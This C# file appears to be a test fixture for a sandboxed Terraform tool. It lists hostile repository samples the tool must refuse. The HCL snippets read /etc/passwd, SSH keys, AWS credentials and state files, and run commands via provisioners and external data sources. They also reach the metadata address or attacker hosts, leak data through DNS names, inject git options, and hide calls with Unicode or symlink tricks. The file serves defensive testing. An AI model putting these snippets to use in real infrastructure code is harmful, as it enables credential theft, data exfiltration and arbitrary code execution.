using static McpInfra.Attacks.HostileRepositories.Hostile;

namespace McpInfra.Attacks.HostileRepositories;

/// <summary>Code that reads, runs or reaches out: refused with its place, before anything runs.</summary>
internal static class HostileCode
{
    private const string Reads = "may only read what a literal path names inside the tree";
    private const string Settings = "an edit must not change backend, cloud, provider, required_providers or provider_meta";
    private const string Run = "provisioners and connections run programs";

    public static IEnumerable<Hostile> All => [.. Files, .. Proc, .. Programs, .. Hosts, .. Configured, .. Modules, .. Disguised];

    /// <summary>Those that the engine alone would run, without a provider, when nothing had read them.</summary>
    public static IReadOnlyList<Hostile> Expressions => [.. Files.Where(hostile => hostile.Edits is null), .. Proc];

    private static IEnumerable<Hostile> Files =>
    [
        Local("file() of the machine", Reads, "file(\"/etc/passwd\")"),
        Local("file() of the state", Reads, "file(\"terraform.tfstate\")"),
        Local("file() of the state, letter by letter", Reads, "[for i in range(1024) : substr(file(\"terraform.tfstate\"), i, 1)]"),
        Local("file() of the state, bit by bit", Reads, "[for i in range(1024) : parseint(substr(filesha256(\"../terraform.tfstate\"), i, 1), 16) % 2]"),
        Local("file() of the state, reversed", Reads, "strrev(file(\"${path.root}/../state/terraform.tfstate\"))"),
        Local("file() of the home folder", Reads, "file(pathexpand(\"~/.aws/credentials\"))"),
        Local("file() by a path put together", Reads, "file(\"${path.module}/${join(\"/\", [\"..\", \"..\", \"etc\", \"passwd\"])}\")"),
        Local("file() of a tracked file that holds secrets", Reads, "file(\".env\")", (".env", Canary.Of("tracked"))),
        Local("fileset() of the whole machine", Reads, "fileset(\"/\", \"**\")"),
        Local("fileexists() as an oracle", Reads, "fileexists(\"@HOME@/.aws/credentials\")"),
        Local("templatefile() of the machine", Reads, "templatefile(\"/proc/self/environ\", {})"),
        Local("a template of the tree that reads", Reads, "templatefile(\"t.tpl\", {})", ("t.tpl", "${file(\"/proc/self/environ\")}\n")),
        Local("templatestring() of a value", "templatestring runs a template", "templatestring(local.y, {})"),
        Code("a module that reads", Layer.Code, Reads, "module \"m\" {\n  source = \"./m\"\n}\n", ("m/main.tf", "output \"x\" {\n  value = file(\"${path.module}/../terraform.tfstate\")\n}\n")),
        Code("an import whose id is a file", Layer.Code, Reads, "import {\n  to = terraform_data.a\n  id = file(\"/etc/passwd\")\n}\nresource \"terraform_data\" \"a\" {}\n"),
        Code("an error message that is a file", Layer.Code, Reads, "resource \"terraform_data\" \"a\" {\n  lifecycle {\n    precondition {\n      condition     = false\n      error_message = file(\"@HOME@/.ssh/id_rsa\")\n    }\n  }\n}\n"),
        Code("a validation that reads", Layer.Code, Reads, "variable \"x\" {\n  default = 1\n  validation {\n    condition     = length(file(\"/etc/shadow\")) == 0\n    error_message = \"no\"\n  }\n}\n"),
        Edit("an edit that lifts a secret's mark", Layer.Code, "an edit must not call nonsensitive", "more.tf", "output \"x\" {\n  value = nonsensitive(terraform_data.a.output)\n}\n"),
        Local("a provider's function that reads", "the provider's function is not on the list", "provider::local::direxists(\"/etc\")"),
    ];

    private static IEnumerable<Hostile> Proc =>
        from kind in new[] { "self/environ", "1/environ", "self/cmdline", "self/maps", "self/fd/0", "self/root/etc/passwd", "self/cwd/../state/terraform.tfstate", "self/mountinfo", "net/unix", "thread-self/environ", "sys/kernel/core_pattern", "kcore" }
        select Local($"/proc/{kind}", Reads, $"filebase64(\"/proc/{kind}\")");

    private static IEnumerable<Hostile> Programs =>
    [
        Code("local-exec", Layer.Code, Run, "resource \"terraform_data\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"touch @OWNED@/local-exec\"\n  }\n}\n"),
        Code("remote-exec to the attacker", Layer.Code, Run, "resource \"terraform_data\" \"a\" {\n  connection {\n    host = \"127.0.0.1\"\n    port = @ATTACKER@\n  }\n  provisioner \"remote-exec\" {\n    inline = [\"id\"]\n  }\n}\n"),
        Code("a provisioner of what is removed", Layer.Code, Run, "removed {\n  from = terraform_data.b\n  lifecycle {\n    destroy = true\n  }\n  provisioner \"local-exec\" {\n    when    = destroy\n    command = \"touch @OWNED@/removed\"\n  }\n}\nresource \"terraform_data\" \"a\" {}\n"),
        Code("a provisioner in JSON", Layer.Code, Run, Harmless, ("more.tf.json", "{\"resource\": {\"terraform_data\": {\"j\": {\"provisioner\": [{\"local-exec\": {\"command\": \"touch @OWNED@/json\"}}]}}}}")),
        Code("a provisioner in an override file", Layer.Code, Run, Harmless, ("main_override.tf", "resource \"terraform_data\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"touch @OWNED@/override\"\n  }\n}\n")),
        Code("the external data source", Layer.Code, "runs a program", "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"touch @OWNED@/external\"]\n}\n"),
        Code("a function of the cloud that is invoked", Layer.Code, "runs a program", "data \"aws_lambda_invocation\" \"x\" {\n  function_name = \"f\"\n  input         = \"{}\"\n}\n"),
        Code("a post-renderer", Layer.Code, "a post-renderer is a program", "resource \"helm_release\" \"x\" {\n  name  = \"x\"\n  chart = \"x\"\n  postrender {\n    binary_path = \"/bin/sh\"\n  }\n}\n"),
        Code("credential_process in a checked-in profile", Layer.Code, "reads a file or credential of the machine", Aws("shared_config_files = [\"./aws.ini\"]\n  profile = \"evil\""), ("aws.ini", "[profile evil]\ncredential_process = touch @OWNED@/credential-process\n")),
        Code("a plugin that hands out credentials", Layer.Code, "runs a program", "provider \"kubernetes\" {\n  host = \"https://awsmoto:@LISTED@\"\n  exec {\n    api_version = \"v1\"\n    command     = \"touch\"\n    args        = [\"@OWNED@/exec\"]\n  }\n}\nresource \"kubernetes_namespace\" \"x\" {}\n"),
    ];

    private static IEnumerable<Hostile> Hosts =>
    [
        Code("the http data source at the metadata address", Layer.Code, "calls a host that code chooses", "data \"http\" \"x\" {\n  url = \"http://169.254.169.254/latest/meta-data/\"\n}\n"),
        Code("a provider's endpoint at the attacker", Layer.Code, "a provider's endpoint is not in the stack's egress", Aws("endpoints {\n    s3 = \"http://127.0.0.1:@ATTACKER@\"\n  }")),
        Code("an alias whose endpoint is the attacker", Layer.Code, "a provider's endpoint is not in the stack's egress", Aws("alias      = \"evil\"\n  access_key = \"AKIA0000000000000000\"\n  secret_key = \"attacker\"\n  endpoints {\n    s3 = \"http://awsmoto:@ATTACKER@\"\n  }")),
        Code("an endpoint put together from a secret", Layer.Code, "a provider's endpoint must be a literal", Aws("endpoints {\n    s3 = \"http://${terraform_data.a.id}.evil.example\"\n  }") + Harmless),
        Code("a proxy of the attacker's", Layer.Code, "leads requests to another host", Aws("http_proxy = \"http://127.0.0.1:@ATTACKER@\"")),
        Code("metadata by a provider's own argument", Layer.Code, "leads requests to another host", Aws("ec2_metadata_service_endpoint = \"http://169.254.169.254\"")),
        Code("an identity token of the machine", Layer.Code, "reads a file or credential of the machine", Aws("assume_role_with_web_identity {\n    role_arn                = \"arn:aws:iam::123456789012:role/x\"\n    web_identity_token_file = \"/var/run/secrets/token\"\n  }")),
        Code("a certificate bundle of the machine", Layer.Code, "reads a file or credential of the machine", Aws("custom_ca_bundle = \"/proc/self/environ\"")),
        Code("names that carry data to a resolver", Layer.Code, "the provider is not on the list", "data \"dns_a_record_set\" \"x\" {\n  host = \"${terraform_data.a.id}.evil.example\"\n}\n" + Harmless),
        Code("a credential asked for as data", Layer.Code, "hands out a credential", "data \"aws_ecr_authorization_token\" \"x\" {}\n"),
        Code("a secret asked for as an ephemeral resource", Layer.Code, "ephemeral resources hand out secrets", "ephemeral \"aws_secretsmanager_secret_version\" \"x\" {\n  secret_id = \"prod\"\n}\n"),
        Code("a check that calls the attacker", Layer.Code, "calls a host that code chooses", "check \"c\" {\n  data \"http\" \"x\" {\n    url = \"http://127.0.0.1:@ATTACKER@/\"\n  }\n  assert {\n    condition     = true\n    error_message = \"x\"\n  }\n}\n"),
    ];

    private static IEnumerable<Hostile> Configured =>
    [
        Edit("a backend at the metadata address", Layer.Code, Settings, "backend.tf", "terraform {\n  backend \"http\" {\n    address = \"http://169.254.169.254/latest/meta-data/\"\n  }\n}\n"),
        Edit("a backend in an override file", Layer.Code, Settings, "backend_override.tf", "terraform {\n  backend \"local\" {\n    path = \"@OWNED@/state\"\n  }\n}\n"),
        Edit("a cloud of the attacker's", Layer.Code, Settings, "cloud.tf.json", "{\"terraform\": {\"cloud\": {\"hostname\": \"evil.example\", \"organization\": \"x\"}}}"),
        Edit("the attacker's keys in an alias", Layer.Code, Settings, "alias.tf", "provider \"aws\" {\n  alias      = \"evil\"\n  access_key = \"AKIA0000000000000000\"\n  secret_key = \"attacker\"\n}\n"),
        Edit("another source for a provider", Layer.Code, Settings, "versions.tf.json", "{\"terraform\": {\"required_providers\": {\"aws\": {\"source\": \"evil.example/x/aws\"}}}}"),
        Edit("a provider in a module", Layer.Code, Settings, "m/provider.tf", "provider \"aws\" {\n  access_key = \"x\"\n}\n", ("call.tf", "module \"m\" {\n  source = \"./m\"\n}\n"), ("m/main.tf", "output \"x\" {\n  value = 1\n}\n")),
        Edit("a value that a provider block takes", Layer.Code, Settings, "local.auto.tfvars", "region = \"evil\"\n", ("aws.tf", "variable \"region\" {\n  default = \"us-east-1\"\n}\nprovider \"aws\" {\n  region = var.region\n}\n")),
        Edit("the lock file", Layer.Code, "an edit must change nothing but the stack's engine files", ".terraform.lock.hcl", "provider \"registry.terraform.io/hashicorp/aws\" {\n  version = \"1.0.0\"\n}\n"),
        Edit("a workflow of CI", Layer.Code, "an edit must change nothing but the stack's engine files", ".github/workflows/ci.yml", "on: push\n"),
        Edit("our own configuration", Layer.Code, "an edit must change nothing but the stack's engine files", "mcp-infra.yaml", "sandbox: none\n"),
    ];

    private static IEnumerable<Hostile> Modules =>
    [
        Module("a module by http", "http://127.0.0.1:@ATTACKER@/m.zip"),
        Module("a module whose tag was moved", "git::http://127.0.0.1:@ATTACKER@/m.git?ref=v1.0.0"),
        Module("a module by ext::", "git::ext::sh -c touch% @OWNED@/ext"),
        Module("a module at an absolute path", "/etc"),
        Module("a module outside the repository", "../../../../../etc", "a module's path must stay in its repository"),
        Module("a module of the attacker's in the public registry", "evil/m/aws", "not on the list of those that may be fetched"),
        Module("a module of the attacker's by git", "git::https://evil.example/m.git?ref=0123456789012345678901234567890123456789", "not on the list of those that may be fetched"),
        Module("a module that carries data in its address", "github.com/evil/AKIA0000000000000000", "not on the list of those that may be fetched"),
        Module("a module whose ref is an option of git's", "git::https://github.com/acme/m.git?ref=--upload-pack=touch", "none that is fetched here"),
        Code("a module that is a link", Layer.Code, "holds no terraform code in this tree", "module \"m\" {\n  source = \"./m\"\n}\n", ("m@", "/etc")),
        Code("a module within itself", Layer.Code, "a module must not include itself", "module \"m\" {\n  source = \"./m\"\n}\n", ("m/main.tf", "module \"n\" {\n  source = \"../n\"\n}\n"), ("n/main.tf", "module \"m\" {\n  source = \"../m\"\n}\n")),
        Code("a provider nobody allowed", Layer.Code, "the provider is not on the list", "terraform {\n  required_providers {\n    x = { source = \"evil/x\" }\n  }\n}\nresource \"x_thing\" \"a\" {}\n"),
        Code("a checked-in provider in terraform.d", Layer.Code, "the tree must not hold .terraform or terraform.d", Harmless, ("terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/readme", "#!/bin/sh\ntouch @OWNED@/plugin\n")),
        Code("a checked-in provider in .terraform", Layer.Code, "the tree must not hold .terraform or terraform.d", Harmless, (".terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/x", "#!/bin/sh\ntouch @OWNED@/plugin\n")),
        Code("a checked-in provider beside the code", Layer.Code, "the tree must not hold a provider's program", Harmless, ("terraform-provider-aws_v5.0.0_x5", "#!/bin/sh\ntouch @OWNED@/plugin\n")),
        Code("checked-in modules of the engine's", Layer.Code, "the tree must not hold .terraform or terraform.d", Harmless, (".terraform/modules/modules.json", "{\"Modules\":[{\"Key\":\"\",\"Source\":\"\",\"Dir\":\"/etc\"}]}")),
    ];

    private static IEnumerable<Hostile> Disguised =>
    [
        Local("a function's name in other letters", "the function is not known", "ﬁle(\"/etc/passwd\")"),
        Local("a path in escapes", Reads, "file(\"\\u002fetc\\u002fpasswd\")"),
        Local("a call hidden behind a heredoc's end", Reads, "<<EOT\nEOT2\n${file(\"/etc/passwd\")}\nEOT\n"),
        Local("a call in the engine's own namespace", Reads, "core::file(\"/etc/passwd\")"),
        Code("a call behind a lone carriage return", Layer.Code, "cannot be read", "# harmless\rlocals { x = file(\"/etc/passwd\") }\nlocals {\r x = 1 }\n"),
        Code("code in a name that only some systems read", Layer.Code, "an engine file's ending must be in lower case", Harmless, ("evil.TF", "data \"external\" \"x\" {}\n")),
        Code("code for another engine", Layer.Code, "files for OpenTofu", Harmless, ("evil.tofu", "data \"external\" \"x\" {}\n")),
        Code("code that is a link", Layer.Code, "an engine file must not be a link", Harmless, ("evil.tf@", "/etc/passwd")),
        Code("a lock file that is a link", Layer.Code, "an engine file must not be a link", Harmless, (".terraform.lock.hcl@", "@HOME@/.aws/credentials")),
        Code("a plan file that is a link", Layer.Code, "an engine file must not be a link", Harmless, ("terraform.tfplan@", "@OWNED@/plan")),
        Code("a state file that is a tracked link", Layer.Code, "an engine file must not be a link", Harmless, ("terraform.tfstate.d@", "@HOME@")),
        Code("code that no two readers take alike", Layer.Code, "cannot be read", "resource \"terraform_data\" \"a\" {\n  input = \"${\n\"}\n"),
    ];

    private static Hostile Local(string name, string says, string expression, params (string Path, string Text)[] more) =>
        Code(name, Layer.Code, says, $"locals {{\n  x = {expression}\n}}\n{Harmless}", more);

    private static Hostile Module(string name, string source, string says = "none that is fetched here") => Code(name, Layer.Code, says, $"module \"m\" {{\n  source = \"{source}\"\n}}\n");

    private static string Aws(string arguments) => $"provider \"aws\" {{\n  {arguments}\n}}\ndata \"aws_s3_bucket\" \"b\" {{\n  bucket = \"b\"\n}}\n";
}
